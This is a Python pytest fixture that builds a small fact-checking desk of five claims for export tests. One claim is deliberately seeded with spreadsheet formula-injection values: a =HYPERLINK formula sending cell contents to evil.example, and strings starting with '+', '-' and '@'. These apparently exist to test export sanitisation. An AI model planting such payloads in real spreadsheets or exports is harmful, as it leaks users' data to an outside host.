"""A hand-made desk for the export tests: five claims whose every exported value is known.

========  ===========  ==========================  =================  ==========  ==========================
claim     state        claimant                    captured (UTC)     rated by    published
========  ===========  ==========================  =================  ==========  ==========================
speech    published    Jens Stoltenberg, NATO      2024-03-01         Anna, Boris 2024-03-10, corrected 04-01
budget    ready        Ministry of Finance         2024-05-05         Anna        no
formula   new          =HYPERLINK(...) (injection) 2024-06-06         nobody      no
retracted published    jens STOLTENBERG            2024-02-01         Boris       2024-07-01, retracted 07-10
dismissed dismissed    Anonymous blog              2024-08-08         nobody      no
========  ===========  ==========================  =================  ==========  ==========================
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from factcheck.accounts.models import Role, User
from factcheck.audit.changesets import Actor, set_actor, set_reason
from factcheck.claims.models import Appearance, Claim, ClaimantKind, ClaimState, Tag
from factcheck.documents.models import Document
from factcheck.publishing.models import Publication, PublicationKind
from factcheck.publishing.snapshot import build_snapshot
from factcheck.ratings.models import Rating, RatingLabel
from factcheck.sources.models import Source
from factcheck.verdicts.models import Verdict

# Text a spreadsheet would run as a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_TEXT = "+1 more than last year"
FORMULA_SUMMARY = "-2 is the answer"
FORMULA_TAG = "@SUM(A1:A9)"


def utc(year: int, month: int, day: int, hour: int = 12) -> datetime:
    return datetime(year, month, day, hour, tzinfo=UTC)


@dataclass
class Desk:
    anna: User
    boris: User
    edith: User
    speech: Claim
    budget: Claim
    formula: Claim
    retracted: Claim
    dismissed: Claim

    @property
    def claims(self) -> list[Claim]:
        return [self.speech, self.budget, self.formula, self.retracted, self.dismissed]

    def ids(self, *claims: Claim) -> list[int]:
        return sorted(claim.id for claim in claims)


def _label(db: Session, key: str) -> RatingLabel:
    found = db.scalar(select(RatingLabel).where(RatingLabel.key == key))
    assert found is not None
    return found


def _claim(db: Session, creator: User, **values) -> Claim:  # type: ignore[no-untyped-def]
    claim = Claim(created_by=creator, **values)
    db.add(claim)
    return claim


def _publish(
    db: Session, claim: Claim, editor: User, at: datetime, kind: PublicationKind, note: str | None = None
) -> None:
    revisions = [p for p in claim.publications]
    first = revisions[0].published_at if revisions else None
    snapshot = build_snapshot(db, claim, published_at=at, first_published_at=first)
    assert claim.verdict is not None and claim.verdict.label is not None
    claim.publications.append(
        Publication(
            revision=len(revisions) + 1,
            kind=kind,
            note=note,
            label_name=claim.verdict.label.name,
            headline=claim.verdict.headline,
            snapshot=snapshot,
            published_at=at,
            published_by_id=editor.id,
        )
    )
    set_reason(db, note or "First publication.")
    db.commit()


@pytest.fixture
def desk(db_session: Session, make_user: Callable[..., User]) -> Desk:
    db = db_session
    anna = make_user(Role.REVIEWER, name="Anna", email="anna@example.org")
    boris = make_user(Role.REVIEWER, name="Boris", email="boris@example.org")
    edith = make_user(Role.EDITOR, name="Edith", email="edith@example.org")
    set_actor(db, Actor.for_user(edith, origin="test"))
    nato, economy, formula_tag = Tag(name="NATO"), Tag(name="economy"), Tag(name=FORMULA_TAG)
    document = Document(
        title="Press conference transcript", text="The missiles are deployed.", text_sha256="0" * 64
    )
    db.add_all([nato, economy, formula_tag, document])

    speech = _claim(
        db,
        anna,
        text="Russia's new missiles are already deployed in Europe.",
        claimant="Jens Stoltenberg, NATO",
        claimant_kind=ClaimantKind.PERSON,
        claimed_on=date(2019, 2, 1),
        state=ClaimState.PUBLISHED,
        slug="russias-new-missiles",
        created_at=utc(2024, 3, 1),
        tags=[nato, economy],
    )
    speech.appearances.extend(
        [
            Appearance(url="https://nato.example.org/speech", appeared_on=date(2019, 2, 1)),
            Appearance(document=document, quote_exact="The missiles are deployed."),
        ]
    )
    speech.sources.extend(
        [
            Source(title="NATO statement", url="https://nato.example.org/statement"),
            Source(title="Interview", citation="Interview with an official, 2019"),
        ]
    )
    speech.ratings.extend(
        [
            Rating(reviewer=anna, label=_label(db, "false"), reasoning="No."),
            Rating(reviewer=boris, label=_label(db, "mostly-false"), reasoning="Hardly."),
        ]
    )
    speech.verdict = Verdict(
        label=_label(db, "false"),
        headline="Not deployed in Europe",
        summary="They are in Russia.",
        author=edith,
    )

    budget = _claim(
        db,
        anna,
        text="The budget doubled in a year.",
        claimant="Ministry of Finance",
        claimant_kind=ClaimantKind.ORGANISATION,
        state=ClaimState.READY,
        created_at=utc(2024, 5, 5),
        tags=[economy],
    )
    budget.sources.append(Source(title="Budget 2024", url="https://finance.example.org/budget"))
    budget.ratings.append(Rating(reviewer=anna, label=_label(db, "misleading"), reasoning="Partly."))
    budget.verdict = Verdict(
        label=_label(db, "misleading"), headline="It grew by a third", summary="Not doubled.", author=edith
    )

    formula = _claim(
        db,
        boris,
        text=FORMULA_TEXT,
        claimant=HYPERLINK,
        state=ClaimState.NEW,
        created_at=utc(2024, 6, 6),
        tags=[formula_tag],
    )
    formula.appearances.append(Appearance(url="https://evil.example/post"))
    formula.verdict = Verdict(label=None, headline="@cmd", summary=FORMULA_SUMMARY, author=edith)

    retracted = _claim(
        db,
        anna,
        text="The treaty allowed missiles of 480 km.",
        claimant="jens STOLTENBERG",
        state=ClaimState.PUBLISHED,
        slug="the-treaty-allowed",
        created_at=utc(2024, 2, 1),
        tags=[nato],
    )
    retracted.ratings.append(Rating(reviewer=boris, label=_label(db, "true"), reasoning="Yes."))
    retracted.verdict = Verdict(label=_label(db, "true"), headline="Right", summary="It did.", author=edith)

    dismissed = _claim(
        db,
        boris,
        text="Everyone knows it.",
        claimant="Anonymous blog",
        state=ClaimState.DISMISSED,
        dismissed_reason="Not checkable.",
        created_at=utc(2024, 8, 8),
    )
    db.commit()

    _publish(db, speech, edith, utc(2024, 3, 10), PublicationKind.PUBLICATION)
    _publish(db, speech, edith, utc(2024, 4, 1), PublicationKind.CORRECTION, "We corrected the date.")
    _publish(db, retracted, edith, utc(2024, 7, 1), PublicationKind.PUBLICATION)
    _publish(db, retracted, edith, utc(2024, 7, 10), PublicationKind.RETRACTION, "We got it wrong.")
    return Desk(anna, boris, edith, speech, budget, formula, retracted, dismissed)
